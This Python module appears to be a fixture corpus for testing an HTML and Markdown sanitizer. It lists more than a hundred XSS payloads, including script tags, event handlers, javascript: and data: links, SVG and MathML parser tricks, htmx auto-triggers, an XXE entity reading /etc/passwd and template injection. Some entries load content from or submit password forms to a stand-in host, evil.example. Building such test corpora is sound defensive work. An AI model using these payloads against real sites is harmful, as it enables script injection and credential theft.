"""Texts that try to make a page act: by script, by a request, by styling, by htmx."""

# Raw HTML of every kind that runs script, loads something or restyles the page.
HTML = '''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script type="text/javascript">alert(1)</script >
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/xss src="data:,alert(1)"></script>
<script>/*<b>*/alert(1)
<<script>alert(1);//<</script>
"><script>alert(1)</script>
</div></article></form><script>alert(1)</script>
--><script>alert(1)</script><!--
<![CDATA[<script>alert(1)</script>]]>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;
<img src=x onerror=alert(1)>
<img src=x onerror='alert(1)'//
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img/src="x"/onerror=alert(1)>
<img src=x:x onerror\u000b=alert(1)>
<img src="//evil.example/pixel.gif" width=1 height=1>
<img srcset="//evil.example/a 1x, //evil.example/b 2x">
<img src=javascript:alert(1)>
<img dynsrc="//evil.example/x">
<img lowsrc="//evil.example/x">
<picture><source srcset=//evil.example/x><img></picture>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<body onload=alert(1)>
<html onmouseover=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="//evil.example"></iframe>
<frameset><frame src=javascript:alert(1)></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<applet code=x archive=//evil.example/x.jar></applet>
<video src=x onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=//evil.example/x.mp3 autoplay></audio>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<input autofocus onfocus=alert(1)>
<input type=image src=//evil.example/x.png>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<button form=answer formaction=//evil.example>Submit</button>
<button onclick=alert(1)>x</button>
<form action=//evil.example><input name=password></form>
<isindex action=javascript:alert(1) type=image>
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href=x onclick=alert(1)>x</a>
<a ping=//evil.example href=/>x</a>
<area href=javascript:alert(1)>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/x>
<link rel=dns-prefetch href=//evil.example>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=//evil.example">
<style>@import '//evil.example/x.css';</style>
<style>body{background:url(//evil.example/x)}</style>
<style></style><img src=x onerror=alert(1)>
<div style="background:url(javascript:alert(1))">x</div>
<div style="position:fixed;inset:0;z-index:999">cover</div>
<p style="width:expression(alert(1))">x</p>
<div id=judge>x</div>
<p id=answer class=visually-hidden hidden>x</p>
<p onmouseover=alert(1)>x</p>
<p onpointerrawupdate=alert(1) tabindex=1 accesskey=x contenteditable>x</p>
<b onanimationstart=alert(1)>x</b>
<xss style="animation-name:x" onanimationend="alert(1)"></xss>
<x onclick=alert(1) onfocus=alert(1) tabindex=0 id=x>x</x>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><script>alert(1)</script>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<noembed><img src=x onerror=alert(1)></noembed>
<bgsound src=javascript:alert(1)>
<table background=javascript:alert(1)><td background=//evil.example/x></table>
<dialog open>Sign in again: <input></dialog>
<slot onslotchange=alert(1)><p slot=x>x</p></slot>
<portal src=//evil.example></portal>
<script type=importmap>{"imports":{"a":"data:text/javascript,alert(1)"}}</script>
<script type=speculationrules>{"prerender":[{"urls":["//evil.example"]}]}</script>
<button hx-post="/p/x/judge/undo/" hx-trigger="load">x</button>
<div hx-get="//evil.example" hx-trigger="load">x</div>
<div data-hx-get="/admin/" data-hx-trigger="load">x</div>
<div hx-on:click="alert(1)" hx-on--load="alert(1)">x</div>
<div hx-vals='js:{x:alert(1)}' hx-get=/ hx-trigger=load>x</div>
<button data-opens="#help" data-closes data-copy="#x">x</button>
<p dir=rtl lang=xx draggable=true is=x-y itemprop=z>x</p>
\ufeff<script>alert(1)</script>
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e
\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>
'''.strip().split("\n")

# Markdown that would become something active if a renderer trusted it.
MARKDOWN = """
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](&#x6A;avascript:alert(1))
[x](java\tscript:alert(1))
[x](<javascript:alert(1)>)
[x](javascript://%0aalert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](file:///etc/passwd)
[x](blob:https://evil.example/1)
[x](filesystem:https://evil.example/1)
[x](//evil.example)
[x](/admin/logout/)
[x](?next=//evil.example)
[x](#judge)
[x](\\\\evil.example)
[x](https://ok.example "onmouseover=alert(1)")
[x](https://ok.example '" onmouseover="alert(1)')
[x](https://ok.example/"onmouseover="alert(1))
[x](https://ok.example){onclick=alert(1)}
[<script>alert(1)</script>](https://ok.example)
[x][1]  [1]: javascript:alert(1)
<javascript:alert(1)>
<https://ok.example/"onclick=alert(1)>
<mailto:a@b.example?body=%22%3E%3Cscript%3E>
![x](//evil.example/pixel.gif)
![x](https://evil.example/pixel.gif "t")
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![" onerror="alert(1)](x)
![<img src=x onerror=alert(1)>](x)
![![x](//evil.example/a)](//evil.example/b)
[![x](//evil.example/a)](https://ok.example)
`<script>alert(1)</script>`
**<img src=x onerror=alert(1)>**
~~<svg onload=alert(1)>~~
# <script>alert(1)</script>
> <script>alert(1)</script>
- <script>alert(1)</script>
1. <img src=x onerror=alert(1)>
    <script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
{{ constructor.constructor('alert(1)')() }}
{% load laurel %}{{ request }}
$\\href{javascript:alert(1)}{x}$
\\includegraphics{https://evil.example/x.png}
""".strip("\n").split("\n")

# Markdown over several lines.
BLOCKS = [
    "```js\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1)\n<img src=x onerror=alert(1)>\n```",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x]: https://ok.example "<script>alert(1)</script>"\n\n[x]',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    '| a |\n|:-:" onclick="alert(1)|\n| x |',
    "<script>\nalert(1)\n</script>",
    "<div>\n\n**x**\n\n<script>alert(1)</script>\n\n</div>",
    "<style>\n\n* { display: none }\n\n</style>",
    "<!-- \n\n<img src=x onerror=alert(1)>\n\n -->",
    "<p>\n<img\nsrc=x\nonerror=alert(1)\n>",
    "a\n===\n<img src=x onerror=alert(1)>\n---",
    "<a href='java\nscript:alert(1)'>x</a>",
]

CORPUS = [*HTML, *MARKDOWN, *BLOCKS]
